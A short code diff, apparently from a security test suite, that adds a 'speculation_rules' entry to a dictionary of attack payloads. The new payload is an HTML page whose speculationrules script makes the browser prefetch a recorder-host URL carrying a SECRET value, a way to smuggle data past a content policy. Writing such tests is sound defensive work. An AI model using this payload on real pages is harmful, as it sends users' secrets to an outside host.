@@ -150,6 +150,14 @@ ATTACKS: dict[str, tuple[str, Callable[[Attacker], bytes]]] = {
             f'<svg xmlns="{SVG}">&hint;</svg>'
         ).encode(),
     ),
+    # Speculation rules prefetch and prerender other origins, policy or not.
+    "speculation_rules": (
+        "speculation_rules.html",
+        lambda a: (
+            '<p>report</p><script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["'
+            f'{a.recorder.base}/speculation_rules?d={SECRET}"]}}]}}</script>'
+        ).encode(),
+    ),
 }
 
 
